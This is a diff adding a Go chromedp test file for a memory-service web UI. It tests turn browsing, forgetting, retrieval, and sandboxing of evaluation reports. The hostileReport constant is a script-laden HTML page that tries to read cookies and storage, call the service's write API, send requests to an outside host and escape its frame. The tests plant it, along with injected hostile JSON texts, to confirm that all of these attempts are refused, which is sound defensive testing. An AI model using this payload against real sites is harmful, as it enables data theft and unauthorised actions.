@@ -1,0 +1,267 @@
+//go:build page
+
+package pagetest
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/chromedp/cdproto/target"
+	"github.com/chromedp/chromedp"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/memhost/memhost/internal/fakes/mem0"
+)
+
+// says waits until the view has a text.
+func says(text string) chromedp.Action {
+	return chromedp.Poll(fmt.Sprintf(`document.querySelector("main").textContent.includes(%q)`, text), nil)
+}
+
+// press clicks the first button of the view whose label or text is this.
+func press(label string) chromedp.Action {
+	return chromedp.Evaluate(fmt.Sprintf(`[...document.querySelectorAll("main button")].find(b => !b.hidden &&
+		(b.ariaLabel ?? b.textContent) === %q).click()`, label), nil)
+}
+
+// has tells whether the view has such a button.
+func has(label string, found *bool) chromedp.Action {
+	return chromedp.Evaluate(fmt.Sprintf(`[...document.querySelectorAll("main button")].some(b => !b.hidden &&
+		(b.ariaLabel ?? b.textContent) === %q)`, label), found)
+}
+
+// event is an event of run r and user u with one message.
+func event(id, session, text string) map[string]any {
+	return map[string]any{"event_id": id, "run_id": "r", "user_id": "u", "session_id": session, "turn_id": id,
+		"timestamp": "2026-03-02T09:00:00Z", "messages": []map[string]any{{"role": "user", "content": text}}}
+}
+
+// mem0Slot serves the fake of mem0's own server, whose answers pass through change.
+func mem0Slot(t *testing.T, change func(answer []byte) []byte) *slot {
+	t.Helper()
+	fake := mem0.New(mem0.Options{})
+	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		answer := httptest.NewRecorder()
+		fake.ServeHTTP(answer, r)
+		for name, values := range answer.Header() {
+			w.Header()[name] = values
+		}
+		w.Header().Del("Content-Length")
+		w.WriteHeader(answer.Code)
+		_, _ = w.Write(change(answer.Body.Bytes()))
+	}))
+	t.Cleanup(backend.Close)
+	file := filepath.Join(t.TempDir(), "memhost.yaml")
+	require.NoError(t, os.WriteFile(file, fmt.Appendf(nil,
+		"memory:\n  backend: mem0\n  archive: true\n  backends:\n    mem0: {url: %q}\n", backend.URL), 0o600))
+	return serve(t, filepath.Join(t.TempDir(), "data"), address(t), "--config", file)
+}
+
+func same(answer []byte) []byte { return answer }
+
+func TestTurnsAreFoundByTheirSessionFollowedBothWaysAndForgotten(t *testing.T) {
+	s := mem0Slot(t, same)
+	record(t, s, event("e1", "monday", "I drink green tea."))
+	record(t, s, event("e2", "tuesday", "I live in Kyoto."))
+	record(t, s, event("e3", "tuesday", "I have a cat."))
+	b := open(t, 1300, 900, false)
+	count := func(n int) chromedp.Action {
+		return chromedp.Poll(fmt.Sprintf(`document.querySelector("main tbody")?.rows.length === %d`, n), nil)
+	}
+	b.run(t, append(b.at(s, "turns"), count(3), says("in memory"),
+		chromedp.Evaluate(`[...document.querySelectorAll("main td a")].find(a => a.textContent === "tuesday").click()`, nil),
+		count(2))...)
+	// from a turn to what was said, to memory, and from there to its turns
+	b.run(t, press("Show e2"), says("What was said in e2"), says("I live in Kyoto."), says("From turns: e2"),
+		chromedp.Evaluate(`[...document.querySelectorAll("main button")].find(b => b.ariaLabel?.startsWith("Where ")).click()`,
+			nil), chromedp.Poll(`/Where \S+ came from/.test(document.querySelector("main").textContent)`, nil),
+		says("From turns: e2"))
+	b.run(t, press("Forget e2"), chromedp.WaitVisible("#confirm-no"), chromedp.Click("#confirm-no"), count(2),
+		press("Forget e2"), chromedp.WaitVisible("#confirm-yes"), chromedp.Click("#confirm-yes"),
+		says("Forgotten: event e2"), says("archived_event"), says("mem0"))
+	b.run(t, press("Show e2"), says("The archive does not have this event."))
+	b.run(t, press("Forget this session"), chromedp.WaitVisible("#confirm-yes"), chromedp.Click("#confirm-yes"),
+		says("Forgotten: session tuesday"))
+	b.clean(t)
+
+	// each event of a session, however many others there are in between
+	s = serve(t, filepath.Join(t.TempDir(), "data"), address(t), "--condition", "no_memory")
+	var events []map[string]any
+	for i := range 12000 {
+		session := "busy"
+		if i%4000 == 3999 {
+			session = "rare"
+		}
+		events = append(events, event(fmt.Sprintf("e%05d", i), session, "a turn"))
+		if len(events) == 500 {
+			body, err := json.Marshal(map[string]any{"events": events})
+			require.NoError(t, err)
+			r, err := http.Post(s.url+"/v1/events/batch", "application/json", bytes.NewReader(body))
+			require.NoError(t, err)
+			_ = r.Body.Close()
+			require.Equal(t, http.StatusOK, r.StatusCode)
+			events = nil
+		}
+	}
+	var forgets bool
+	b.run(t, append(b.at(s, "turns?session=rare"), count(3), says("e03999"), says("e11999"), has("Forget e03999",
+		&forgets))...)
+	assert.False(t, forgets, "no archive, and the provider cannot: there is nothing to forget")
+	b.clean(t)
+}
+
+func TestAQuestionOfThePageIsARetrievalLikeAnAgents(t *testing.T) {
+	s := mem0Slot(t, same)
+	record(t, s, event("e1", "monday", "I drink green tea."))
+	b := open(t, 1300, 900, false)
+	var lanes []string
+	b.run(t, append(b.at(s, "ask"), says("a call of an embedding model (the query is embedded, once)"),
+		chromedp.SendKeys("main form input", " green tea"), chromedp.Click("main form button"),
+		chromedp.Poll(answered, nil), says("I drink green tea."),
+		chromedp.Evaluate(`[...document.querySelectorAll(".lane")].map(l => l.ariaLabel +
+			" wide: " + (l.firstChild.getBoundingClientRect().width >= 2) + " within: " +
+			(l.firstChild.getBoundingClientRect().right <= l.getBoundingClientRect().right + 2))`, &lanes))...)
+	require.NotEmpty(t, lanes)
+	assert.Regexp(t, `^search: [\d.]+ ms from [\d.]+ of [\d.]+ ms wide: true within: true$`, lanes[0])
+
+	// behind the wall, too
+	r, err := http.NewRequestWithContext(t.Context(), http.MethodPut, s.url+"/v1/mode",
+		strings.NewReader(`{"read_only": true, "reason": "a test"}`))
+	require.NoError(t, err)
+	r.Header.Set("Content-Type", "application/json")
+	answer, err := http.DefaultClient.Do(r)
+	require.NoError(t, err)
+	_ = answer.Body.Close()
+	require.Equal(t, http.StatusOK, answer.StatusCode)
+	b.run(t, append(b.at(s, "now"), chromedp.Reload(), says("moderead-only"))...)
+	b.run(t, append(b.at(s, "ask"), chromedp.SendKeys("main form input", " green tea"),
+		chromedp.Click("main form button"), chromedp.Poll(answered, nil), says("I drink green tea."))...)
+	b.clean(t)
+
+	local := demoSlot(t)
+	b.run(t, append(b.at(local, "ask"), says("costs no model call"))...)
+}
+
+// hostileReport tries what a report could want, and says to whoever listens how far it came. It asks for its last wish
+// when the test has heard it.
+const hostileReport = `<!doctype html><title>hostile</title><p>A report</p><img src="%[1]s/image"><script>
+const tried = {};
+const attempt = async (name, what) => { try { tried[name] = String(await what() ?? "nothing"); } catch (e) { tried[name] = "refused"; } };
+(async () => {
+  await attempt("parent", () => parent.document.title);
+  await attempt("cookie", () => document.cookie);
+  await attempt("storage", () => localStorage.length);
+  await attempt("slot", () => fetch("/v1/manifest").then(r => r.status));
+  await attempt("write", () => fetch("/v1/mode", { method: "PUT", body: "{}" }).then(r => r.status));
+  await attempt("elsewhere", () => fetch("%[1]s/fetch").then(r => r.status));
+  await attempt("window", () => window.open("%[1]s/window"));
+  await attempt("top", () => { top.location = "%[1]s/top"; });
+  await attempt("form", () => { const f = document.createElement("form"); f.action = "%[1]s/form"; document.body.append(f); f.submit(); });
+  await attempt("script", () => new Promise((yes, no) => { const s = document.createElement("script"); s.src = "%[1]s/script"; s.onload = yes; s.onerror = no; document.body.append(s); }));
+  parent.postMessage(tried, "*");
+  location = "%[1]s/away";
+})();
+</script>`
+
+func TestAnEvaluationsReportIsShownAndCanDoNothing(t *testing.T) {
+	report, err := demo()
+	require.NoError(t, err)
+	dir := t.TempDir()
+	require.NoError(t, os.CopyFS(filepath.Join(dir, "demo"), os.DirFS(filepath.Dir(report))))
+	var leaks atomic.Int64
+	elsewhere := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { leaks.Add(1) }))
+	defer elsewhere.Close()
+	evil := filepath.Join(dir, "evil")
+	require.NoError(t, os.Mkdir(evil, 0o700))
+	write := func(name, text string) {
+		require.NoError(t, os.WriteFile(filepath.Join(evil, name), []byte(text), 0o600))
+	}
+	write("report.html", fmt.Sprintf(hostileReport, elsewhere.URL))
+	quoted, err := json.Marshal(injections())
+	require.NoError(t, err)
+	first, err := json.Marshal(injections()[0])
+	require.NoError(t, err)
+	cells, err := json.Marshal([]map[string]any{{"label": injections()[1]}, {"label": injections()[2]}})
+	require.NoError(t, err)
+	write("run.json", fmt.Sprintf(`{"run":1,"begun_at":%s,"cells":%s}`, first, cells))
+	write("metrics.json", fmt.Sprintf(`{"metrics":%d,"run":{"name":%s},"self_test":{"verdict":"broken","label":%s,
+		"missed":%s},"columns":[{"label":%s}]}`, 1, first, first, quoted, first))
+	s := serve(t, filepath.Join(t.TempDir(), "data"), address(t), "--runs", dir)
+
+	b := open(t, 1300, 900, false)
+	var frame, hurt bool
+	b.run(t, append(b.at(s, "runs"), press("Show demo"), says("leak detector"), says("found"),
+		chromedp.Poll(`document.querySelector("iframe") !== null`, nil),
+		chromedp.Evaluate(`document.querySelector("iframe").sandbox.value === "allow-scripts"`, &frame))...)
+	assert.True(t, frame)
+	assert.Equal(t, "demo: memories compared", b.frameTitle(t))
+	b.clean(t)
+
+	var heard map[string]string
+	b = open(t, 1300, 900, false)
+	b.run(t, append(b.at(s, "runs"),
+		chromedp.Evaluate(`window.heard = null; addEventListener("message", e => { window.heard = e.data; })`, nil),
+		press("Show evil"), chromedp.Poll(`window.heard !== null`, nil), chromedp.Evaluate(`window.heard`, &heard),
+		chromedp.Evaluate(`window.hurt !== undefined`, &hurt), chromedp.Poll(`document.title === "Runs - memhost"`, nil))...)
+	assert.Equal(t, map[string]string{"parent": "refused", "cookie": "refused", "storage": "refused", "slot": "refused",
+		"write": "refused", "elsewhere": "refused", "window": "nothing", "top": "refused", "form": "nothing",
+		"script": "refused"}, heard)
+	assert.False(t, hurt)
+	b.run(t, append(b.at(s, "now"), says("Serving"))...) // whatever the frame still asked for has been refused by now
+	assert.Zero(t, leaks.Load(), "a request left the report")
+}
+
+// frameTitle is the title of the document in the page's only frame, which has a process of its own.
+func (b *browser) frameTitle(t *testing.T) (title string) {
+	t.Helper()
+	var id target.ID
+	require.Eventually(t, func() bool {
+		list, err := chromedp.Targets(b)
+		require.NoError(t, err)
+		for _, one := range list {
+			if strings.Contains(one.URL, "/page/report/") {
+				id = one.TargetID
+			}
+		}
+		return id != ""
+	}, 20e9, 50e6)
+	ctx, end := chromedp.NewContext(b, chromedp.WithTargetID(id))
+	t.Cleanup(end) // which closes the page, too
+	require.NoError(t, chromedp.Run(ctx, chromedp.Poll(`document.title !== ""`, nil),
+		chromedp.Evaluate(`document.title`, &title)))
+	return title
+}
+
+// TestHostileNativeAnswersDoNothing has the backend put 60 texts into every JSON answer, as further members and as the
+// text of memories.
+func TestHostileNativeAnswersDoNothing(t *testing.T) {
+	texts, err := json.Marshal(injections())
+	require.NoError(t, err)
+	s := mem0Slot(t, func(answer []byte) []byte {
+		if !bytes.HasPrefix(bytes.TrimSpace(answer), []byte("{")) {
+			return answer
+		}
+		rest := bytes.TrimSpace(answer)[1:]
+		return bytes.Join([][]byte{[]byte(`{"hostile":`), texts, []byte(","), rest}, nil)
+	})
+	for i, text := range injections() {
+		record(t, s, event(fmt.Sprintf("e%d %s", i, text), text, "I like "+text))
+	}
+	b := open(t, 1300, 900, false)
+	var hurt bool
+	b.run(t, append(b.at(s, "ask"), chromedp.Click("main form button"), chromedp.Poll(answered, nil),
+		chromedp.Evaluate(`for (const d of document.querySelectorAll("details")) d.open = true`, nil), says("hostile"))...)
+	b.run(t, append(b.at(s, "turns"), press("Show e1 "+injections()[1]), says("What was said in"), says("From turns"),
+		chromedp.Evaluate(`window.hurt !== undefined`, &hurt))...)
+	assert.False(t, hurt)
+	b.clean(t)
+}
